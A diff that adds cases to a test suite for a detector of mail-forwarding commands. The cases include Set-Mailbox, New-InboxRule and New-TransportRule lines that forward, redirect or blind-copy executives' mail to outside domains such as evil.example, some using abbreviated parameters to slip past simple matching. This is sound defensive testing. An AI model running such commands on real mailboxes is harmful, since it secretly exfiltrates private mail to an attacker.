@@ -26,6 +26,15 @@ describe('mail forwarding read by its words', () => {
     [['gam', 'user', 'cfo@acme.example', 'forward', 'on', 's@gmail.example', 'keep'], ['gmail.example']],
     [['gam', 'user', 'cfo@acme.example', 'add', 'forwardingaddress', 'm@acme.example'], []],
     [['Set-Mailbox', '-Identity', 'a@acme.example', '-ForwardingSmtpAddress', '$null'], []],
+    // a parameter named by a prefix of its name, the mailbox by position
+    [['Set-Mailbox', 'ceo@acme.example', '-ForwardingSmtp', 'x@evil.example'], ['evil.example']],
+    [['Set-Mailbox', 'ceo@acme.example', '-ForwardingSmtp', 'x@acme.example'], []],
+    [
+      ['New-InboxRule', '-Mailbox', 'cfo@acme.example', '-Name', 'r', '-RedirectT', 'a@out.example'],
+      ['out.example'],
+    ],
+    [['Set-InboxRule', 'cfo@acme.example\\Sync', '-ForwardTo', 'x@acme.example'], []],
+    [['New-TransportRule', '-Name', 'c', '-BlindCopy', 'w@x.example'], ['x.example']],
     [['Get-InboxRule', '-Mailbox', 'cfo@acme.example'], []],
     [['gam', 'user', 'cfo@acme.example', 'show', 'forward'], []],
   ])('%o → %o', (argv, hosts) => {
